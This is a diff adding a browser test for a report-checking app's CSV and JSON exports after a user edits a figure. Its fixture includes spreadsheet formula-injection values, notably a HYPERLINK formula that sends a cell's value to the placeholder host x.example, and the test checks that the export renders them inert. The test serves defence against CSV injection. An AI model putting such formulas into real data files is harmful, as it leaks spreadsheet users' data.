@@ -3,7 +3,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { join } from 'node:path';
-import { serverAndBrowser, SEED, SEED_COUNTS, SCREENSHOTS, openApp, paste, after, counts, markOf, cellsMarked, eventually } from './helpers.mjs';
+import { serverAndBrowser, SEED, SEED_COUNTS, SCREENSHOTS, openApp, paste, after, counts, markOf, cellsMarked, eventually, parseCsv, spreadsheetWouldRun } from './helpers.mjs';
 
 const env = serverAndBrowser();
 
@@ -281,6 +281,37 @@ test('the summary counts match the checks listed in the CSV and JSON downloads',
   assert.deepEqual(data.summary, shown);
   assert.equal(data.forms.length, 7);
   assert.ok(Array.isArray(data.checks) && data.checks.every((/** @type {any} */ c) => typeof c.message === 'string'));
+  await context.close();
+});
+
+test('downloads after a what-if edit carry the printed figure and the edit; hostile text reaches Excel inert', async () => {
+  const { context, page } = await fresh();
+  // Another unit's table whose indicator is a formula (it would become a live link in Excel).
+  const hostile = 'Biểu mẫu số 01\nSTT\tChỉ tiêu\tĐơn vị tính\tSố liệu\tGhi chú\n' +
+    '2.\t=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")\t%\t31,14\t\n2.1.\t@SUM(1+1)\tNhiệm vụ\t61\t\n2.2.\t+Số nhiệm vụ đã hoàn thành\tNhiệm vụ\t19\t\n';
+  await after(page, () => paste(page, { plain: `${SEED}\n${hostile}` }));
+  await after(page, () => page.locator('tr[data-cell="B03/3.1.2"] .ks-input').fill('66.678'));
+  const fs = await import('node:fs');
+  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải CSV' }).click()]);
+  const csvText = fs.readFileSync(/** @type {string} */ (await csv.path()), 'utf8');
+  const rows = parseCsv(csvText);
+  const header = rows[0];
+  assert.deepEqual(header.slice(0, 8), ['Biểu mẫu', 'Ô', 'STT', 'Chỉ tiêu', 'Đơn vị tính', 'Số liệu', 'Số liệu gốc (in trong báo cáo)', 'Thử sửa']);
+  // The ratio checked with the edited figure says so, with both figures.
+  const ratio = rows.find((r) => r[1] === 'B03/3.1');
+  assert.match(String(ratio?.[7]), /B03\/3\.1\.2: 66\.687 → 66\.678/);
+  // The edited cell's own checks give the printed figure beside the tried one.
+  const own = rows.find((r) => r[1] === 'B03/3.1.2');
+  assert.deepEqual(own?.slice(5, 7), ['66.678', '66.687']);
+  // No field could run in a spreadsheet; the hostile indicator is kept, inert.
+  for (const f of rows.flat()) assert.ok(!spreadsheetWouldRun(f), `a field a spreadsheet would run: ${JSON.stringify(f)}`);
+  assert.ok(rows.some((r) => r[3] === '\'=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")'));
+
+  const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải JSON' }).click()]);
+  const data = JSON.parse(fs.readFileSync(/** @type {string} */ (await json.path()), 'utf8'));
+  const row = data.forms.flatMap((/** @type {any} */ f) => f.table).find((/** @type {any} */ r) => r.cell === 'B03/3.1.2');
+  assert.deepEqual([row.value, row.original, row.edited], ['66.678', '66.687', true]);
+  assert.deepEqual(data.edits, [{ cell: 'B03/3.1.2', original: '66.687', value: '66.678' }]);
   await context.close();
 });
 
